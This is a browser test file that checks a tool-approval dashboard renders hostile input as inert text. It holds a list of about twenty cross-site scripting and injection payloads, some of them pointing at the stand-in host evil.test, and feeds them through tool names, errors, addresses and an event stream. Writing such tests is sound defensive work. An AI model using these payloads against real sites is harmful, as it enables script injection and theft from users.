// Script in everything that a program, an AI client, an upstream server or an address can fill: none of it runs, and all of
// it is shown as text.

import { active, question } from "./actions.mjs";
import { SIZES, VIEWS, open, overflow, show } from "./browser.mjs";
import { TOOLS } from "./product.mjs";
import { expect, expectEqual, row, until } from "./rows.mjs";

/** Each payload sets `window.payloadRan` or opens a dialog if it runs; its number shows where it is displayed. */
const PAYLOADS = [
  (mark) => `<script>payloadRan="${mark}"</script>`,
  (mark) => `<img src=x onerror="payloadRan='${mark}'">`,
  (mark) => `"><svg onload=alert("${mark}")>`,
  (mark) => `'><body onload=alert('${mark}')>`,
  (mark) => `</title><script>alert("${mark}")</script>`,
  (mark) => `</textarea></pre></code><iframe srcdoc="<script>parent.payloadRan='${mark}'</script>"></iframe>`,
  (mark) => `javascript:payloadRan='${mark}'//`,
  (mark) => `<a href="javascript:alert('${mark}')" autofocus onfocus=alert(1)>${mark}</a>`,
  (mark) => `<details open ontoggle="payloadRan='${mark}'">`,
  (mark) => `<style>@import "//evil.test/${mark}";*{display:none}</style>`,
  (mark) => `<object data="data:text/html,<script>alert('${mark}')</script>"></object>`,
  (mark) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert('${mark}')>">`,
  (mark) => `<form action=//evil.test/${mark}><button id=main>`,
  (mark) => `<base href="//evil.test/${mark}/">`,
  (mark) => `<meta http-equiv=refresh content="0;url=//evil.test/${mark}">`,
  (mark) => `{{constructor.constructor("payloadRan='${mark}'")()}}`,
  (mark) => `\${payloadRan='${mark}'}\`+alert(1)+\``,
  (mark) => `data: x\n\nevent: hello\ndata: {"user":"${mark}"}\n\n`,
  (mark) => `\u202e\u2066${mark}\u2069\u202c<\u0000script>alert(1)</script>\u200b`,
  (mark) => `%3Cscript%3Ealert(%22${mark}%22)%3C/script%3E&lt;script&gt;`,
].map((payload, index) => ({ mark: `pay${String(index).padStart(2, "0")}`, text: payload(`pay${String(index).padStart(2, "0")}`) }));

/** Element kinds that the page itself does not have. */
const FOREIGN = "img, meta[http-equiv], iframe, object, embed, base, math, body body, main style, main script, form[action], [onload], [onerror], [onfocus], [ontoggle], a[href^='javascript:']";

const pythonText = (text) => JSON.stringify(text);
const everything = PAYLOADS.map(({ text }) => text).join(" ");

export async function payloads({ product, browser }) {
  const text = { type: "object", properties: { text: { type: "string" } } };
  product.setTools([...TOOLS, { name: "note", description: "Takes a note.", inputSchema: text }]);
  product.write("policy.toml", 'version = 1\n\n[servers.shop]\nallow = ["orders"]\nask = ["note"]\n');
  const process = await product.page();
  const context = await browser.newContext({ viewport: SIZES.laptop });
  const { page, script } = await open(context, process.link);
  const verify = async (place, marks = PAYLOADS) => {
    await script.verify();
    expectEqual(await page.locator(FOREIGN).count(), 0, `${place}: foreign elements:`);
    expectEqual(await overflow(page), 0, `${place}: pixels wider than the window:`);
    await until(`${place}: every payload is shown as text`, async () => {
      // A question continues a long line after a colon.
      const shown = (await page.locator("main").innerText()).replaceAll(/\n {4}: /g, "");
      return marks.every(({ mark }) => shown.includes(mark));
    });
    await script.verify();
  };

  const clients = [];
  for (const { text } of PAYLOADS.slice(0, 3)) clients.push(await product.client(text));
  await row("payloads in arguments, the program and names of clients: the question", () => inQuestion(page, clients, verify));
  await row("payloads in the program: the details of the run", () => inProgram(page, clients[0], verify));
  await row("payloads in errors and names of clients: runs, denials and the overview", () => inErrors(page, clients, verify));
  await row("payloads in kept values and names of files", () => inFileNames(page, clients[0], verify));
  await row("payloads in the audit log", () => inAudit(page, verify));
  await row("payloads in definitions and names of tools: the comparison", () => inDefinitions(page, product, verify));
  await row("payloads in the address", () => inAddress(page, verify));
  for (const view of VIEWS) {
    await row(`${view} with all of these`, async () => (await show(page, view), verify(view, [])));
  }
  await row("payloads in a stream of events that is not the page's", () => inStream(page, process.origin));
  await row("control: the same payload runs in a page without these protections", () => control(context));
  await context.close();
}

async function inQuestion(page, [client], verify) {
  await show(page, "approvals");
  const answer = client.run(`from shop import note\nnote(text=${pythonText(everything)}) # ${PAYLOADS[1].text}\n`);
  await active(question(page));
  await verify("question");
  await page.setViewportSize(SIZES.phone);
  expectEqual(await page.evaluate(unindentedLines), [], "wrapped lines of others at the left edge:");
  await page.setViewportSize(SIZES.laptop);
  await question(page).getByRole("button", { name: "Deny" }).click();
  await answer;
}

/** Returns lines of others whose wrapped rest begins where lines of Lockhouse begin. Runs in the page. */
function unindentedLines() {
  const edge = document.querySelector(".lines span:not(.quoted)").getBoundingClientRect().left;
  const rectangles = (line) => {
    const range = document.createRange();
    range.selectNodeContents(line);
    return [...range.getClientRects()];
  };
  const quoted = [...document.querySelectorAll(".lines .quoted")];
  return quoted.filter((line) => rectangles(line).some(({ left }, index) => index > 0 && left < edge + 10)).map((line) => line.textContent);
}

async function inProgram(page, client, verify) {
  const lines = PAYLOADS.map(({ text }) => `# ${text.replaceAll("\n", " ").replaceAll("\u0000", " ")}`);
  await client.run(`${lines.join("\n")}\n1\n`);
  await show(page, "runs");
  await page.locator("tbody a").first().click();
  await page.locator(".numbered").waitFor();
  await verify("program");
}

async function inErrors(page, clients, verify) {
  for (const client of clients) {
    await client.run(`raise ValueError(${pythonText(everything)})`);
    await client.run("from shop import delete_customer\ndelete_customer(text='x')\n");
  }
  await show(page, "denials");
  await page.locator("article").first().waitFor();
  await verify("denials", PAYLOADS.slice(0, 3));
  await show(page, "runs");
  await verify("runs", PAYLOADS.slice(0, 3));
  await show(page, "overview");
  await verify("overview", []);
}

async function inFileNames(page, client, verify) {
  const blob = ({ text }) => `Blob(b"x" * 300000, "application/octet-stream", name=${pythonText(text)})`;
  await client.run(`from mcp_tools import Blob\n[${PAYLOADS.slice(0, 5).map(blob).join(", ")}]\n`);
  await client.run(`[{"name": ${pythonText(everything)}, "n": n} for n in range(500)]`);
  await show(page, "results");
  await page.locator("tbody tr").first().waitFor();
  await verify("results", []);
}

async function inAudit(page, verify) {
  await show(page, "audit");
  await page.getByRole("button", { name: "Show records" }).click();
  await until("records are listed", () => page.locator("tbody tr").count());
  await page.locator("tbody details").evaluateAll((all) => all.forEach((details) => (details.open = true)));
  await verify("audit", PAYLOADS.slice(0, 3));
}

async function inDefinitions(page, product, verify) {
  const hostile = PAYLOADS.map(({ text, mark }) => ({
    name: mark, description: text, inputSchema: { type: "object", properties: { [text]: { type: "string", description: text } } },
  }));
  const named = PAYLOADS.slice(0, 4).map(({ text }) => ({ name: text, description: text, inputSchema: { type: "object" } }));
  product.setTools([...TOOLS, ...hostile, ...named]);
  await show(page, "servers");
  await page.getByRole("button", { name: /Review the changes|Compare definitions/ }).first().click();
  await page.locator(".diff").first().waitFor();
  await verify("definitions");
}

async function inAddress(page, verify) {
  for (const { text } of PAYLOADS) {
    await page.evaluate((hash) => (location.hash = hash), `#/runs/${encodeURIComponent(text)}`);
    await page.getByText("This run cannot be shown").waitFor();
    await page.evaluate((hash) => (location.hash = hash), `#/${text}`);
    await verify("address", []);
  }
}

/** An intermediary that replaces the stream's data cannot add markup either. */
async function inStream(page, origin) {
  const hostile = await page.context().newPage();
  const sections = { hello: { version: everything, user: everything, may: ["approve", "policy", "audit", "operate"], now: "", address: everything, audit: false, audit_error: everything } };
  const body = Object.entries(sections).map(([name, data]) => `event: ${name}\ndata: ${JSON.stringify(data)}\n\n`).join("");
  await page.close();
  await hostile.route("**/api/events", (route) => route.fulfill({ status: 200, contentType: "text/event-stream", body }));
  await hostile.goto(origin);
  await hostile.getByText("pay00").first().waitFor();
  expectEqual(await hostile.locator(FOREIGN).count(), 0, "foreign elements:");
  expectEqual(await hostile.evaluate(() => window.payloadRan ?? null), null);
  await hostile.close();
}

async function control(context) {
  const page = await context.newPage();
  await page.setContent(`<main>${PAYLOADS[1].text}</main>`);
  expect(await until("the payload runs", () => page.evaluate(() => window.payloadRan ?? null)), "the control payload does not run");
  await page.close();
}
